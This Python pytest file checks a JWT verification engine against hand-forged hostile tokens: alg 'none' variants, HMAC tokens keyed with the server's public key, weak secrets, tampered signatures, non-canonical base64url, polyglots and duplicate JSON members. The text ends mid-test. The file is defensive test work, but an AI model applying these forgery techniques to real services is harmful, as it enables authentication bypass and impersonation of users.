"""Hostile tokens: every item of issue 2's "Verification is strict" list and the engine-relevant items
of section 5 of the JWT security reference (jwt-security.md). Each token is built by hand (see `Forger`
in conftest.py), signed correctly wherever that makes the test reach deeper than the signature check,
and every refusal is asserted to be the precise `TokenError` subclass and to leak neither the token nor
the secret (`tk.refuse`).
"""

from __future__ import annotations

import base64
import binascii
import datetime
import hashlib
import hmac
import json
import sys
import zlib
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.x509.oid import NameOID
from joserfc.jwk import ECKey, OKPKey, RSAKey

from fastauth.errors import (
    AlgorithmMismatch,
    ConfigError,
    ExpiredToken,
    InvalidClaims,
    InvalidSignature,
    MalformedToken,
    TokenError,
    UnknownKey,
    WrongTokenType,
)
from fastauth.tokens import KeyRing, SigningKey, TokenEngine, codec
from fastauth.tokens.codec import standard_segment

DROP_MARK = "<drop>"  # in parametrize lists: leave the member out
SIGNATURE_ALGS = ("HS256", "HS512", "RS256", "PS256", "ES256", "ES384", "ES512", "EdDSA")
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
CURVE_ORDERS = {
    "ES256": P256_ORDER,
    "ES384": int(
        "FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973", 16
    ),
    "ES512": int("01" + "F" * 65 + "A51868783BF2F966B7FCC0148F709A5D03BB5C9B8899C47AEBB6FB71E91386409", 16),
}
ES_SIZES = {"ES256": 32, "ES384": 48, "ES512": 66}


def segments(token: str) -> list[str]:
    return token.split(".")


def replace_segment(token: str, index: int, value: str) -> str:
    parts = token.split(".")
    parts[index] = value
    return ".".join(parts)


def flip_byte(segment: str, position: int, tk: SimpleNamespace) -> str:
    raw = bytearray(tk.unb64(segment))
    raw[position % len(raw)] ^= 0x01
    return str(tk.b64(bytes(raw)))


def self_signed_cert(private: Any) -> x509.Certificate:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "fastauth test")])
    start = datetime.datetime(2024, 1, 1, tzinfo=datetime.UTC)
    builder = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private.public_key())
        .serial_number(1)
        .not_valid_before(start)
        .not_valid_after(start + datetime.timedelta(days=365))
    )
    algorithm = None if isinstance(private, ed25519.Ed25519PrivateKey) else hashes.SHA256()
    return builder.sign(private, algorithm)


def public_jwk(public: Any) -> dict[str, Any]:
    if isinstance(public, rsa.RSAPublicKey):
        return dict(RSAKey.import_key(public).as_dict(private=False))
    if isinstance(public, ec.EllipticCurvePublicKey):
        return dict(ECKey.import_key(public).as_dict(private=False))
    return dict(OKPKey.import_key(public).as_dict(private=False))


def public_key_encodings(private: Any, published_jwk: dict[str, Any]) -> dict[str, bytes]:
    """The server's public key in every spelling an attacker could use as an HMAC secret."""
    public = private.public_key()
    enc, fmt = serialization.Encoding, serialization.PublicFormat
    pem = public.public_bytes(enc.PEM, fmt.SubjectPublicKeyInfo)
    cert = self_signed_cert(private)
    out = {
        "pem-spki": pem,
        "pem-spki-no-newline": pem.rstrip(b"\n"),
        "pem-spki-crlf": pem.replace(b"\n", b"\r\n"),
        "der-spki": public.public_bytes(enc.DER, fmt.SubjectPublicKeyInfo),
        "openssh": public.public_bytes(enc.OpenSSH, fmt.OpenSSH),
        "openssh-newline": public.public_bytes(enc.OpenSSH, fmt.OpenSSH) + b"\n",
        "x509-pem": cert.public_bytes(enc.PEM),
        "x509-der": cert.public_bytes(enc.DER),
        "jwk-json": json.dumps(published_jwk).encode(),
        "jwk-json-compact": json.dumps(published_jwk, separators=(",", ":")).encode(),
        "jwk-json-bare": json.dumps(public_jwk(public)).encode(),
        "jwks-json": json.dumps({"keys": [published_jwk]}).encode(),
    }
    if isinstance(public, rsa.RSAPublicKey):
        out["pkcs1-pem"] = public.public_bytes(enc.PEM, fmt.PKCS1)
        out["pkcs1-der"] = public.public_bytes(enc.DER, fmt.PKCS1)
    elif isinstance(public, ec.EllipticCurvePublicKey):
        out["x962-uncompressed"] = public.public_bytes(enc.X962, fmt.UncompressedPoint)
        out["x962-compressed"] = public.public_bytes(enc.X962, fmt.CompressedPoint)
    else:
        out["raw"] = public.public_bytes(enc.Raw, fmt.Raw)
    return out


@pytest.fixture
def valid(forger: Any, engine: TokenEngine) -> str:
    """A valid hand-made HS256 access token for `engine`."""
    token = str(forger.token())
    assert engine.verify_access(token).sub == "user-1"
    return token


# --- 1. alg none, all casings -------------------------------------------------------------------


NONE_CASINGS = ["none", "None", "NONE", "nOnE", "NoNe", "none ", " none", "none\u0000"]


@pytest.mark.parametrize("alg", NONE_CASINGS)
@pytest.mark.parametrize("with_signature", [False, True])
def test_alg_none_with_the_real_kid(
    alg: str, with_signature: bool, forger: Any, engine: TokenEngine, valid: str, tk: SimpleNamespace
) -> None:
    signature = segments(valid)[2] if with_signature else ""
    header = tk.b64(tk.to_bytes(forger.header(alg=alg)))
    token = f"{header}.{segments(valid)[1]}.{signature}"
    tk.refuse(engine.verify_access, token, AlgorithmMismatch)


@pytest.mark.parametrize("alg", NONE_CASINGS[:4])
@pytest.mark.parametrize("with_signature", [False, True])
def test_alg_none_without_kid(
    alg: str, with_signature: bool, forger: Any, engine: TokenEngine, valid: str, tk: SimpleNamespace
) -> None:
    signature = segments(valid)[2] if with_signature else ""
    for header in ({"alg": alg, "typ": "JWT"}, {"alg": alg}, forger.header(alg=alg, kid=tk.DROP)):
        token = f"{tk.b64(tk.to_bytes(header))}.{segments(valid)[1]}.{signature}"
        tk.refuse(engine.verify_access, token, MalformedToken)


@pytest.mark.parametrize("alg", NONE_CASINGS[:4])
def test_alg_none_two_segments(
    alg: str, forger: Any, engine: TokenEngine, valid: str, tk: SimpleNamespace
) -> None:
    token = f"{tk.b64(tk.to_bytes(forger.header(alg=alg)))}.{segments(valid)[1]}"
    tk.refuse(engine.verify_access, token, MalformedToken)


@pytest.mark.parametrize("server_alg", ["RS256", "ES256", "EdDSA"])
def test_alg_none_on_asymmetric_servers(
    server_alg: str, make_engine: Any, make_forger: Any, tk: SimpleNamespace
) -> None:
    engine, forger = make_engine(server_alg), make_forger(server_alg)
    good = forger.token()
    for alg in NONE_CASINGS[:4]:
        token = replace_segment(good, 0, tk.b64(tk.to_bytes(forger.header(alg=alg))))
        tk.refuse(engine.verify_access, token, AlgorithmMismatch)
        tk.refuse(engine.verify_access, replace_segment(token, 2, ""), AlgorithmMismatch)


# --- 2. an algorithm other than the key's --------------------------------------------------------


@pytest.mark.parametrize(
    "alg", ["HS384", "HS512", "hs256", "Hs256", "HS256 ", "HS-256", "RS256", "ES256", "EdDSA"]
)
def test_hmac_key_refuses_other_algorithms(
    alg: str, forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    """Signed with the right secret where the algorithm allows it: the binding alone refuses."""
    sign_alg = alg if alg in ("HS384", "HS512") else "HS256"
    token = forger.token(forger.header(alg=alg), sign_alg=sign_alg)
    tk.refuse(engine.verify_access, token, AlgorithmMismatch)


@pytest.mark.parametrize(
    ("server_alg", "token_alg"),
    [
        ("ES256", "RS256"),
        ("ES256", "ES384"),
        ("ES256", "EdDSA"),
        ("RS256", "PS256"),  # same RSA key, other padding
        ("RS256", "RS512"),
        ("PS256", "RS256"),
        ("RS256", "ES256"),
        ("EdDSA", "ES256"),
        ("EdDSA", "Ed25519"),
        ("ES512", "ES256"),
    ],
)
def test_asymmetric_key_refuses_other_algorithms(
    server_alg: str,
    token_alg: str,
    make_engine: Any,
    make_forger: Any,
    private_keys: dict[str, Any],
    tk: SimpleNamespace,
) -> None:
    engine, forger = make_engine(server_alg), make_forger(server_alg)
    sign_alg = token_alg if token_alg in private_keys else server_alg
    token = forger.token(forger.header(alg=token_alg), sign_alg=sign_alg, key=private_keys[sign_alg])
    tk.refuse(engine.verify_access, token, AlgorithmMismatch)


@pytest.mark.parametrize("alg", [DROP_MARK, 256, 0, None, True, ["HS256"], {"alg": "HS256"}, ""])
def test_missing_or_non_string_alg(alg: Any, forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    header = forger.header(alg=tk.DROP if alg == DROP_MARK else alg)
    tk.refuse(engine.verify_access, forger.token(header), MalformedToken if alg != "" else AlgorithmMismatch)


def test_same_key_material_other_padding_does_not_verify(
    make_engine: Any, make_forger: Any, tk: SimpleNamespace
) -> None:
    """RS256 header, PSS signature by the same RSA key: the signature is checked with the key's alg."""
    engine, forger = make_engine("RS256"), make_forger("RS256")
    tk.refuse(engine.verify_access, forger.token(sign_alg="PS256"), InvalidSignature)
    tk.refuse(engine.verify_access, forger.token(sign_alg="RS512"), InvalidSignature)


# --- 3. algorithm confusion: HS256 keyed with the server's public key ---------------------------


@pytest.mark.parametrize("server_alg", ["RS256", "PS256", "ES256", "EdDSA"])
@pytest.mark.parametrize("hmac_alg", ["HS256", "HS512"])
def test_hmac_signed_with_the_public_key_in_every_encoding(
    server_alg: str,
    hmac_alg: str,
    make_engine: Any,
    make_forger: Any,
    private_keys: dict[str, Any],
    tk: SimpleNamespace,
) -> None:
    engine, forger = make_engine(server_alg), make_forger(server_alg)
    published = engine.keyring.jwks()["keys"][0]
    encodings = public_key_encodings(private_keys[server_alg], published)
    assert len(encodings) >= 13
    for secret in encodings.values():
        # The real kid, so verification really reaches the key binding.
        token = forger.token(forger.header(alg=hmac_alg), sign_alg=hmac_alg, key=secret)
        tk.refuse(engine.verify_access, token, AlgorithmMismatch)


def test_hmac_and_asymmetric_keys_never_share_a_ring(
    signing_keys: dict[str, SigningKey], private_keys: dict[str, Any]
) -> None:
    """The "RS256 and HS256 together" verifier of jwt_tool -X k cannot be configured."""
    with pytest.raises(ConfigError):
        KeyRing([signing_keys["RS256"], signing_keys["HS256"]])
    with pytest.raises(ConfigError):
        KeyRing([signing_keys["HS256"], signing_keys["ES256"]])


@pytest.mark.parametrize("server_alg", ["RS256", "ES256", "EdDSA"])
def test_public_key_as_hmac_secret_is_a_config_error(server_alg: str, private_keys: dict[str, Any]) -> None:
    """Configuring the public key itself as the HS secret fails at start-up, with a ConfigError."""
    encodings = public_key_encodings(private_keys[server_alg], {})
    for name in ("pem-spki", "der-spki", "openssh", "x509-pem"):
        with pytest.raises(ConfigError) as info:
            SigningKey.from_secret(encodings[name], "HS256")
        assert encodings[name].decode("latin-1") not in str(info.value)


# --- 4, 5. missing, empty, tampered, truncated signatures; flipped bytes ------------------------


@pytest.mark.parametrize("alg", SIGNATURE_ALGS)
def test_missing_or_empty_signature(
    alg: str, make_engine: Any, make_forger: Any, tk: SimpleNamespace
) -> None:
    engine = make_engine(alg)
    header, payload, _ = segments(make_forger(alg).token())
    tk.refuse(engine.verify_access, f"{header}.{payload}.", MalformedToken)
    tk.refuse(engine.verify_access, f"{header}.{payload}", MalformedToken)


@pytest.mark.parametrize("alg", SIGNATURE_ALGS)
def test_tampered_signature(
    alg: str, make_engine: Any, make_forger: Any, attacker_keys: dict[str, Any], tk: SimpleNamespace
) -> None:
    engine, forger = make_engine(alg), make_forger(alg)
    good = forger.token()
    assert engine.verify_access(good).sub == "user-1"
    signature = tk.unb64(segments(good)[2])
    variants = [
        signature[:-1] + bytes([signature[-1] ^ 1]),
        bytes([signature[0] ^ 0x80]) + signature[1:],
        signature[:-3],  # truncated by 4 base64 characters
        signature + b"\x00",
        signature * 2,
        bytes(len(signature)),
        b"\x00",
        hmac.new(b"", b"", hashlib.sha256).digest(),
        tk.unb64(segments(forger.token(payload=forger.claims(sub="other")))[2]),  # another token's
    ]
    variants += [tk.unb64(flip_byte(segments(good)[2], i, tk)) for i in range(0, len(signature), 7)]
    for variant in variants:
        tk.refuse(engine.verify_access, replace_segment(good, 2, tk.b64(variant)), InvalidSignature)
    # Truncating the text by 4 characters (jwt_tool "broken signature"): the new last character may
    # carry set unused bits (not canonical) or not (a short signature), depending on the signature.
    error = tk.refuse(engine.verify_access, good[:-4])
    assert type(error) in (MalformedToken, InvalidSignature)


@pytest.mark.parametrize("raised", [ValueError, TypeError, OverflowError, IndexError])
def test_a_signature_check_that_raises_is_an_invalid_signature(
    raised: type[Exception],
    valid: str,
    engine: TokenEngine,
    monkeypatch: pytest.MonkeyPatch,
    tk: SimpleNamespace,
) -> None:
    """Defence in depth: whatever a crypto backend raises on a malformed signature, it is a refusal."""

    def explode(self: SigningKey, signing_input: bytes, signature: bytes) -> bool:
        raise raised("backend choked on " + signing_input.decode())

    monkeypatch.setattr(SigningKey, "verify", explode)
    tk.refuse(engine.verify_access, valid, InvalidSignature)


@pytest.mark.parametrize("alg", ["HS256", "RS256", "ES256", "EdDSA"])
def test_signature_by_an_attacker_key_with_the_real_kid(
    alg: str, make_engine: Any, make_forger: Any, attacker_keys: dict[str, Any], tk: SimpleNamespace
) -> None:
    key = {
        "HS256": "attacker-secret-attacker-secret-attacker-secret!!",
        "RS256": attacker_keys["RSA"],
        "ES256": attacker_keys["P-256"],
        "EdDSA": attacker_keys["Ed25519"],
    }[alg]
    forger = make_forger(alg)
    tk.refuse(make_engine(alg).verify_access, forger.token(key=key), InvalidSignature)


@pytest.mark.parametrize("weak", ["", "secret", "1", "password", "changeme", "your-256-bit-secret"])
def test_weak_secrets_do_not_verify(weak: str, forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    tk.refuse(engine.verify_access, forger.token(key=weak.encode()), InvalidSignature)
    with pytest.raises(ConfigError):
        SigningKey.from_secret(weak)


@pytest.mark.parametrize("alg", ["HS256", "RS256", "ES256", "EdDSA"])
def test_flipped_byte_in_each_segment(
    alg: str, make_engine: Any, make_forger: Any, tk: SimpleNamespace
) -> None:
    engine = make_engine(alg)
    good = make_forger(alg).token()
    header, payload, signature = segments(good)
    for i in range(len(tk.unb64(header))):
        tk.refuse(engine.verify_access, replace_segment(good, 0, flip_byte(header, i, tk)))
    for i in range(len(tk.unb64(payload))):
        tk.refuse(engine.verify_access, replace_segment(good, 1, flip_byte(payload, i, tk)), InvalidSignature)
    for i in range(0, len(tk.unb64(signature)), 3):
        tk.refuse(
            engine.verify_access, replace_segment(good, 2, flip_byte(signature, i, tk)), InvalidSignature
        )


def test_flipped_character_in_each_segment(valid: str, engine: TokenEngine, tk: SimpleNamespace) -> None:
    for index in range(len(valid)):
        char = valid[index]
        if char == ".":
            continue
        other = ALPHABET[(ALPHABET.index(char) + 32) % 64]
        tk.refuse(engine.verify_access, valid[:index] + other + valid[index + 1 :])


# --- 22. non-canonical base64url ----------------------------------------------------------------


MUTATIONS: dict[str, Callable[[str], str]] = {
    "pad=": lambda s: s + "=",
    "pad==": lambda s: s + "==",
    "pad===": lambda s: s + "===",
    "pad====": lambda s: s + "====",
    "proper-padding": lambda s: s + "=" * (-len(s) % 4) if len(s) % 4 else s + "====",
    "inner=": lambda s: s[:4] + "=" + s[4:],
    "plus": lambda s: s[:5] + "+" + s[6:],
    "slash": lambda s: s[:5] + "/" + s[6:],
    "standard-alphabet": lambda s: (
        s.replace("-", "+").replace("_", "/") if ("-" in s or "_" in s) else s[:-2] + "+/"
    ),
    "space": lambda s: s[:6] + " " + s[6:],
    "tab": lambda s: s[:6] + "\t" + s[6:],
    "newline": lambda s: s[:6] + "\n" + s[6:],
    "crlf": lambda s: s[:6] + "\r\n" + s[6:],
    "leading-space": lambda s: " " + s,
    "trailing-newline": lambda s: s + "\n",
    "nul": lambda s: s[:6] + "\x00" + s[6:],
    "zero-width-space": lambda s: s[:6] + "\u200b" + s[6:],
    "non-ascii-letter": lambda s: s[:6] + "é" + s[7:],
    "fullwidth-A": lambda s: s[:6] + "\uff21" + s[7:],
    "arabic-digit": lambda s: s[:6] + "\u0661" + s[7:],
    "quote": lambda s: s[:6] + '"' + s[7:],
    "brace": lambda s: s[:6] + "{" + s[7:],
    "star": lambda s: s[:6] + "*" + s[7:],
    "len%4==1": lambda s: s + "A" if len(s) % 4 == 0 else s[: len(s) - (len(s) % 4) + 1],
}


@pytest.mark.parametrize("mutation", sorted(MUTATIONS))
@pytest.mark.parametrize("index", [0, 1, 2], ids=["header", "payload", "signature"])
def test_non_canonical_base64url(
    mutation: str, index: int, valid: str, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    mutated = MUTATIONS[mutation](segments(valid)[index])
    assert mutated != segments(valid)[index]
    tk.refuse(engine.verify_access, replace_segment(valid, index, mutated), MalformedToken)


@pytest.mark.parametrize("alg", ["RS256", "ES256", "EdDSA"])
@pytest.mark.parametrize("mutation", ["pad=", "proper-padding", "plus", "space", "trailing-newline"])
def test_non_canonical_signature_asymmetric(
    alg: str, mutation: str, make_engine: Any, make_forger: Any, tk: SimpleNamespace
) -> None:
    good = make_forger(alg).token()
    token = replace_segment(good, 2, MUTATIONS[mutation](segments(good)[2]))
    tk.refuse(make_engine(alg).verify_access, token, MalformedToken)


@pytest.mark.parametrize("text", [" {t}", "{t} ", "{t}\n", "\t{t}", "{t}\r\n", "Bearer {t}", "{t}\x00"])
def test_whitespace_around_the_token(text: str, valid: str, engine: TokenEngine, tk: SimpleNamespace) -> None:
    tk.refuse(engine.verify_access, text.format(t=valid), MalformedToken)


def set_unused_bits(segment: str) -> str:
    """The same bytes spelled differently: the last character with its unused low bit set."""
    assert len(segment) % 4 in (2, 3), "this segment has no unused bits"
    last = ALPHABET.index(segment[-1])
    assert last & 1 == 0
    return segment[:-1] + ALPHABET[last | 1]


def spaced_json(value: dict[str, Any], spaces: int) -> bytes:
    """JSON with `spaces` blanks after the opening brace: still valid, and it shifts the length."""
    return b"{" + b" " * spaces + json.dumps(value, separators=(",", ":")).encode()[1:]


def test_changed_unused_bits_in_each_segment(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    # Choose header and payload spellings whose base64url has unused bits (byte length not a multiple of 3).
    header = next(
        spaced_json(forger.header(), n) for n in range(3) if len(spaced_json(forger.header(), n)) % 3
    )
    payload = next(
        spaced_json(forger.claims(), n) for n in range(3) if len(spaced_json(forger.claims(), n)) % 3
    )
    good = forger.token(header, payload)
    assert engine.verify_access(good).sub == "user-1"  # the spaced JSON itself is fine
    for index in range(3):
        segment = segments(good)[index]
        twin = set_unused_bits(segment)
        assert base64.urlsafe_b64decode(twin + "=" * (-len(twin) % 4)) == tk.unb64(segment)  # same bytes
        tk.refuse(engine.verify_access, replace_segment(good, index, twin), MalformedToken)


@pytest.mark.parametrize("alg", ["ES256", "EdDSA", "RS256"])
def test_changed_unused_bits_of_asymmetric_signatures(
    alg: str, make_engine: Any, make_forger: Any, tk: SimpleNamespace
) -> None:
    good = make_forger(alg).token()
    tk.refuse(
        make_engine(alg).verify_access,
        replace_segment(good, 2, set_unused_bits(segments(good)[2])),
        MalformedToken,
    )


@pytest.mark.parametrize("alg", ["HS256", "RS256", "ES256", "EdDSA"])
def test_padded_variants_of_a_valid_token_are_refused(
    alg: str, make_engine: Any, tk: SimpleNamespace
) -> None:
    engine = make_engine(alg)
    good = engine.issue_access("u", "s").token
    parts = segments(good)
    for mask in range(1, 8):
        padded = [p + ("=" * (-len(p) % 4) or "====") if mask & (1 << i) else p for i, p in enumerate(parts)]
        tk.refuse(engine.verify_access, ".".join(padded), MalformedToken)
        one = [p + "=" if mask & (1 << i) else p for i, p in enumerate(parts)]
        tk.refuse(engine.verify_access, ".".join(one), MalformedToken)


def test_b64url_decode_is_strict(tk: SimpleNamespace) -> None:
    for data in (b"", b"a", b"ab", b"abc", b"\xff\xfe\xfd\xfc", bytes(range(256))):
        if data:
            assert codec.b64url_decode(tk.b64(data)) == data
    assert codec.b64url_decode("YQ") == b"a"
    assert codec.b64url_decode("YWI") == b"ab"
    # YR and YWJ: b"a" and b"ab" again, with non-zero unused bits.
    for segment in ("", "=", "a", "YQ=", "YQ==", "YW I", "+/8", "YQ\n", "YR", "YWJ", "YQ.", "Y Q"):
        with pytest.raises(MalformedToken):
            codec.b64url_decode(segment)


# The single-translation codec: every byte outside the base64url alphabet, anywhere in a token, is
# refused as `MalformedToken` (`binascii.a2b_base64` runs non-strict, so nothing it would silently skip
# may reach it); non-canonical last characters (non-zero unused bits) are refused in all three segments,
# including a header that would otherwise be looked up in `KeyRing.known_headers`; `known_headers` is
# keyed by the standard-base64 form of our header segments, and the standard spelling itself (`+`/`/`
# instead of `-`/`_`), correctly signed, must not match it.

_SIX = {char: value for value, char in enumerate(ALPHABET)}


def _refuse_class(engine: TokenEngine, token: str) -> type[BaseException] | None:
    try:
        engine.verify_access(token)
    except TokenError as error:
        return type(error)
    return None


@pytest.mark.parametrize("alg", ["HS256", "RS256"])
def test_every_foreign_byte_anywhere_is_malformed(
    alg: str, make_engine: Callable[..., TokenEngine], make_forger: Callable[[str], Any]
) -> None:
    """Substitute and insert every code point 0..255 (and a few beyond) at every position."""
    engine, forger = make_engine(alg), make_forger(alg)
    token = forger.token()
    assert engine.verify_access(token).sub == "user-1"
    foreign = [chr(c) for c in range(256) if chr(c) not in ALPHABET + "."]
    foreign += ["\u2024", "\uff0e", "\ud800", "\u0660", "\U0001f600"]
    for i in range(len(token)):
        for char in foreign:
            for mutated in (token[:i] + char + token[i + 1 :], token[:i] + char + token[i:]):
                found = _refuse_class(engine, mutated)
                assert found is MalformedToken, (i, repr(char), found)
    for char in foreign:
        assert _refuse_class(engine, token + char) is MalformedToken
        assert _refuse_class(engine, char + token) is MalformedToken


@pytest.mark.parametrize("extra", ["", "x", "xy", "xyz"])
def test_non_canonical_last_character_in_every_segment(
    extra: str, make_engine: Callable[..., TokenEngine], make_forger: Callable[[str], Any]
) -> None:
    engine, forger = make_engine("HS256"), make_forger("HS256")
    token = forger.token(payload=forger.claims(pad=extra))
    assert engine.verify_access(token).sub == "user-1"
    parts = token.split(".")
    tested = 0
    for index, segment in enumerate(parts):
        unused = {2: 0x0F, 3: 0x03}.get(len(segment) % 4)
        if unused is None:
            continue
        keep = _SIX[segment[-1]] & ~unused
        for char in ALPHABET:
            if char == segment[-1] or _SIX[char] & ~unused != keep:
                continue
            spelled = list(parts)
            spelled[index] = segment[:-1] + char  # same bytes under a lenient decoder
            mutated = ".".join(spelled)
            assert base64.urlsafe_b64decode(spelled[index] + "==") == base64.urlsafe_b64decode(segment + "==")
            assert _refuse_class(engine, mutated) is MalformedToken, (index, char)
            tested += 1
    assert tested


@pytest.mark.parametrize("kid", ["k?", "k>", "a~~"])
def test_standard_base64_spelling_of_a_known_header_is_refused(
    kid: str, make_engine: Callable[..., TokenEngine], tk: SimpleNamespace
) -> None:
    """The fast-path table is keyed by the `+`/`/` form; a token spelled that way must not reach it.

    These kids make our header segment contain `_` or `-`, so its standard spelling differs.
    """
    key = SigningKey.from_secret(tk.SECRET, "HS256", kid=kid)
    url_header = key.header_segment("at+jwt")
    assert "-" in url_header or "_" in url_header
    ring = KeyRing([key])
    engine = make_engine(keyring=ring)
    std_header = url_header.replace("-", "+").replace("_", "/")
    assert standard_segment(url_header) == std_header.encode() and std_header.encode() in ring.known_headers
    forger = tk.Forger(alg="HS256", kid=key.kid, key=tk.SECRET)
    payload = tk.b64(tk.to_bytes(forger.claims()))
    for header, accepted in ((url_header, True), (std_header, False)):
        signing_input = f"{header}.{payload}".encode("ascii")
        token = f"{header}.{payload}.{tk.b64(forger.sign(signing_input))}"
        if accepted:
            assert engine.verify_access(token).sub == "user-1"
        else:
            tk.refuse(engine.verify_access, token, MalformedToken)


# --- 20. JSON serialization / polyglots ----------------------------------------------------------


def test_json_serialization_instead_of_compact(valid: str, engine: TokenEngine, tk: SimpleNamespace) -> None:
    header, payload, signature = segments(valid)
    flattened = {"protected": header, "payload": payload, "signature": signature}
    general = {"payload": payload, "signatures": [{"protected": header, "signature": signature}]}
    for document in (
        flattened,
        general,
        {"payload": payload, "signatures": []},
        {**flattened, "header": {"kid": "x"}},
        {"payload": payload, "signatures": [{"protected": header, "signature": signature}] * 2},
    ):
        for text in (json.dumps(document), json.dumps(document, separators=(",", ":"))):
            tk.refuse(engine.verify_access, text, MalformedToken)
        tk.refuse(engine.verify_access, tk.b64(json.dumps(document).encode()), MalformedToken)


@pytest.mark.parametrize(
    "build",
    [
        lambda t: t + '{"sub":"admin"}',
        lambda t: t + '.{"sub":"admin"}',
        lambda t: '{"sub":"admin"}' + t,
        lambda t: t.replace(".", '"."'),
        lambda t: f'["{t}"]',
        lambda t: f'"{t}"',
        lambda t: t + "," + t,
        lambda t: t + " " + t,
    ],
)
def test_polyglots(build: Callable[[str], str], valid: str, engine: TokenEngine, tk: SimpleNamespace) -> None:
    tk.refuse(engine.verify_access, build(valid), MalformedToken)


# --- 21. segment count and empty segments -------------------------------------------------------


@pytest.mark.parametrize(
    "shape",
    [
        "{h}",
        "{h}.{p}",
        "{h}.{p}.{s}.{s}",
        "{h}.{p}.{s}.{p}.{s}",
        "{h}.{p}.{s}.",
        "{h}.{p}.{s}..",
        ".{h}.{p}.{s}",
        ".{p}.{s}",
        "{h}..{s}",
        "{h}.{p}.",
        ".{p}.",
        "..",
        "...",
        ".",
        "",
        "{h}.{s}",
        "{p}.{s}",
        "{h}..",
        "..{s}",
    ],
)
def test_segment_count_and_empty_segments(
    shape: str, valid: str, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    h, p, s = segments(valid)
    tk.refuse(engine.verify_access, shape.format(h=h, p=p, s=s), MalformedToken)


@pytest.mark.parametrize("token", [None, b"", 0, 1.5, [], {}, ("a", "b", "c"), bytearray(b"a.b.c")])
def test_token_that_is_not_text(token: Any, engine: TokenEngine, valid: str, tk: SimpleNamespace) -> None:
    tk.refuse(engine.verify_access, token, MalformedToken)
    tk.refuse(engine.verify_access, valid.encode(), MalformedToken)


# --- 23. malformed JSON -------------------------------------------------------------------------


NOT_OBJECTS = [
    [],
    ["alg", "HS256"],
    "str",
    1,
    1.5,
    b"null",
    True,
    False,
    b"",
    b" ",
    b"{",
    b"}",
    b"{}{}",
    b"[{}]",
]


@pytest.mark.parametrize("value", NOT_OBJECTS, ids=repr)
def test_header_that_is_not_a_json_object(
    value: Any, forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    if value == b"":
        return  # an empty header segment is covered by the segment tests
    tk.refuse(engine.verify_access, forger.token(value), MalformedToken)


@pytest.mark.parametrize("value", [*NOT_OBJECTS, b"{}", {}], ids=repr)
def test_payload_that_is_not_a_json_object(
    value: Any, forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    """Signed correctly, so it is the payload parsing (after the signature) that refuses."""
    token = forger.token(payload=value)
    expected: type[TokenError] = MalformedToken
    if value in (b"{}", {}):
        expected = WrongTokenType  # a JSON object, but one without any claim
    tk.refuse(engine.verify_access, token, expected)


def test_payload_is_parsed_only_after_the_signature_holds(
    forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    for payload in (b"{garbage", b'{"sub":"a","sub":"b"}', b"\xff", b"[" * 3000):
        tk.refuse(
            engine.verify_access, forger.token(payload=payload, key=b"not-the-secret"), InvalidSignature
        )


@pytest.mark.parametrize(
    "payload",
    [
        b" {}",
        b"{} ",
        b"\n{}",
        b'{"sub":"u"} x',
        b'{"sub":"u"}\x00',
        b'{"sub":"u"',
        b'{"sub":"u",}',
        b"{'sub':'u'}",
        b'{sub:"u"}',
        b'{"sub":"u"}/*c*/',
    ],
)
def test_payload_with_garbage_around_the_object(
    payload: bytes, forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    tk.refuse(engine.verify_access, forger.token(payload=payload), MalformedToken)


def raw_json(value: dict[str, Any], replace: dict[str, str]) -> bytes:
    text = json.dumps(value, separators=(",", ":"))
    for old, new in replace.items():
        assert old in text
        text = text.replace(old, new, 1)
    return text.encode()


def test_duplicate_members_in_the_header(forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    kid = forger.kid
    for header in (
        f'{{"alg":"none","alg":"HS256","kid":"{kid}","typ":"at+jwt"}}',
        f'{{"alg":"HS256","alg":"HS256","kid":"{kid}","typ":"at+jwt"}}',
        f'{{"alg":"HS256","kid":"other","kid":"{kid}","typ":"at+jwt"}}',
        f'{{"alg":"HS256","kid":"{kid}","typ":"JWT","typ":"at+jwt"}}',
        f'{{"alg":"HS256","kid":"{kid}","typ":"at+jwt","\\u0061lg":"HS256"}}',
    ):
        tk.refuse(engine.verify_access, forger.token(header.encode()), MalformedToken)


@pytest.mark.parametrize(
    "replace",
    [
        {'"sub":"user-1"': '"sub":"admin","sub":"u1"'},
        {'"sub":"user-1"': '"sub":"user-1","s\\u0075b":"admin"'},
        {'"type":"access"': '"type":"refresh","type":"access"'},
        {'"exp":': '"exp":1,"exp":'},
        {'"aud":[': '"aud":"x","aud":['},
        {'"sid":"': '"x":{"a":1,"a":2},"sid":"'},  # nested objects too
    ],
)
def test_duplicate_members_in_the_payload(
    replace: dict[str, str], forger: Any, engine: TokenEngine, tk: SimpleNamespace
) -> None:
    tk.refuse(engine.verify_access, forger.token(payload=raw_json(forger.claims(), replace)), MalformedToken)


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_nan_and_infinity(constant: str, forger: Any, engine: TokenEngine, tk: SimpleNamespace) -> None:
    claims = forger.claims()
    for name in ("exp", "iat"):
        payload = raw_json(claims, {f'"{name}":{claims[name]}': f'"{name}":{constant}'})
        tk.refuse(engine.verify_access, forger.token(payload=payload), MalformedToken)
    payload = raw_json(forger.claims(), {'"sid":"': f'"x":[{constant}],"sid":"'})
